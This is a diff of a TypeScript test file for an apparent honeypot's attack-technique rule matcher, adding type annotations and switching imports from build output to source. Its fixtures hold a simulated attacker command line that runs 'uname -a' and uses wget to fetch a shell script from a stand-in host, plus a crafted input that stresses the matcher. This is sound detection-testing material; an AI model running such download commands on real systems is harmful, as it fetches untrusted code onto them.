@@ -7,28 +7,34 @@ import assert from 'node:assert/strict'
 import {mkdtempSync, rmSync} from 'node:fs'
 import {tmpdir} from 'node:os'
 import {join} from 'node:path'
-import {describe, it} from 'node:test'
+import {describe, it, type TestContext} from 'node:test'
 
-import {migrateToLatest, withDatabase} from '../../../dist/db/index.js'
-import {Matcher} from '../../../dist/ttp/matcher.js'
-import {loadRules} from '../../../dist/ttp/rule-loader.js'
-import {ttpTick} from '../../../dist/workers/ttp/tick.js'
+import type {Kysely} from 'kysely'
+
+import type {Database, NewLog, TtpTagRow} from '../../../src/db/schema.js'
+
+import {migrateToLatest, withDatabase} from '../../../src/db/index.js'
+import {Matcher} from '../../../src/ttp/matcher.js'
+import {loadRules} from '../../../src/ttp/rule-loader.js'
+import {ttpTick} from '../../../src/workers/ttp/tick.js'
 import {DATABASE_KINDS, migratedDatabase, skipReason} from '../../helpers/databases.js'
 import {runDecnet} from '../../helpers/decnet-cli.js'
-import {commandLog, failedLogin, insertLogs, readTags} from '../../helpers/ttp-logs.js'
+import {commandLog, failedLogin, insertLogs, readTags as readTagsUntyped} from '../../helpers/ttp-logs.js'
+
+const readTags = async (db: Kysely<Database>): Promise<TtpTagRow[]> => (await readTagsUntyped(db)) as TtpTagRow[]
 
 const matcher = new Matcher((await loadRules()).rules)
 
 /** A command every rule with `{{cmd}}` starts on hundreds of times (`$(` is a command position), then one real hit. */
 const SLOW_COMMAND = `${'fetch$('.repeat(570)};uname -a`
 
-async function setup(t, kind, rows) {
+async function setup(t: TestContext, kind: string, rows: readonly NewLog[]): Promise<Kysely<Database>> {
   const {db} = await migratedDatabase(kind, t)
   await insertLogs(db, rows)
   return db
 }
 
-const rows = () => [
+const rows = (): NewLog[] => [
   commandLog('203.0.113.7', 0, 'uname -a; wget http://198.51.100.9/x.sh'),
   ...Array.from({length: 6}, (_, i) => failedLogin('203.0.113.8', 1 + i / 10)),
   commandLog('203.0.113.9', 2, SLOW_COMMAND),
